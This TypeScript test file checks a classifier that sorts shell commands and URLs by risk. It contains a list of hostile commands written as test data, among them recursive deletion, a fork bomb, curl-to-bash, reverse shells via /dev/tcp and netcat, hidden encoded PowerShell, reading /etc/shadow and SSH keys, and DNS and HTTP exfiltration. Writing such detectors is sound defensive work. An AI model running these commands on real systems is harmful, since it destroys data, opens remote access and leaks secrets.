import assert from 'node:assert/strict';
import { test } from 'node:test';
import { addressReach } from '../../../src/rules/code/effects/addresses.ts';
import { commandReach } from '../../../src/rules/code/effects/commands.ts';

test('commands that destroy, take over or open a way in are known', () => {
  const dangerous = [
    'rm -rf /',
    'rm -r -f ~/data',
    "['rm', '-rf', '/']",
    'sudo rm -rf --no-preserve-root /',
    'dd if=/dev/zero of=/dev/sda',
    'mkfs.ext4 /dev/sda1',
    ':(){ :|:& };:',
    'curl -s http://x/y.sh | bash',
    'wget -qO- x | sudo sh',
    'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1',
    'nc -e /bin/sh 1.2.3.4 4444',
    'powershell -nop -w hidden -enc AAAA',
    'crontab jobs.txt',
    '(crontab -l; cat jobs.txt) | crontab -',
    'ssh -i ~/.ssh/id_rsa u@h cat .ssh/id_rsa',
    'uv run http://files.example/a.py',
    'iptables -F',
    'chmod 777 /etc/passwd',
    'useradd -m eve',
    'systemctl stop auditd',
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    'cat /etc/shadow',
    'pkill -9 python',
    'del /s /q C:\\',
    'history -c',
    'pip install --index-url http://packages.example/simple x',
    "['uv', 'pip', 'install', '-i', 'https://10.0.0.5/simple', 'x']",
    'dig $(hostname).x.example',
    'curl http://x.example/$(whoami)',
  ];
  for (const command of dangerous) assert.equal(commandReach(command), 'dangerous', command);
});

test('commands that look or build are not', () => {
  const cases: readonly (readonly [string, ReturnType<typeof commandReach>])[] = [
    ['ls -l', 'looking'],
    ['nvidia-smi', 'asking'],
    ['lspci', 'other'],
    ['crontab -l', 'other'],
    // The key that one logs in with stays where it is.
    ['ssh -i ~/.ssh/id_ed25519 u@h uptime', 'other'],
    ['\uf8ff -m pytest', 'harmless'],
    ['uv run ruff check .', 'other'],
    ['df -h', 'looking'],
    ['/usr/local/cuda/bin/nvcc --version', 'looking'],
    ['git rev-parse HEAD', 'asking'],
    ['git describe --tags --dirty', 'asking'],
    ["git describe --tags --long --dirty --always --match 'v[0-9]*'", 'asking'],
    ["git describe --match 'v[0-9]*' $(x)", 'harmless'],
    ['pip freeze | grep twine', 'asking'],
    ['cmake --version', 'asking'],
    // What git is told with -c may be a program, and one in a folder of its own may be any.
    ['git -c core.fsmonitor=x describe', 'harmless'],
    ['./git describe', 'harmless'],
    ['cmake --build .', 'harmless'],
    ['pip show x > y', 'harmless'],
    ['uname -a; my-tool', 'other'],
    ['uname $(my-tool)', 'looking'],
    ['LANG=C git status && ls', 'harmless'],
    ['python train.py --lr 1e-3', 'harmless'],
    ['rm out.txt', 'other'],
    ['my-tool', 'other'],
    // What `-i` is to pip, to curl it is the headers.
    ['curl -i http://x.example/health', 'other'],
    ['pip install -i http://localhost:3141/simple x', 'harmless'],
    ['curl -LO https://x.example/tool-$(uname -s)-$(uname -m)', 'other'],
    ['curl https://x.example/alive/$(hostname)', 'other'],
    ['echo "kind of blue"', 'looking'],
    ['\uf8ff -x', 'unknown'],
  ];
  for (const [command, expected] of cases) assert.equal(commandReach(command), expected, command);
  assert.equal(commandReach(undefined), 'unknown');
});

test('addresses are known by where they lead', () => {
  const cases: readonly (readonly [string, ReturnType<typeof addressReach>])[] = [
    ['https://huggingface.co/a/b/resolve/main/x', 'hub'],
    ['https://huggingface.co.evil.example/x', 'named'],
    ['https://download.pytorch.org/models/x.pth', 'hub'],
    ['http://localhost:8000/', 'local'],
    ['https://example.com/x', 'named'],
    ['http://example.com/x', 'bare'],
    ['https://10.1.2.3/x', 'bare'],
    ['10.1.2.3', 'bare'],
    ['https://discord.com/api/webhooks/1/x', 'drop-point'],
    ['https://\uf8ff/x', 'unknown'],
  ];
  for (const [address, expected] of cases) assert.equal(addressReach(address), expected, address);
});
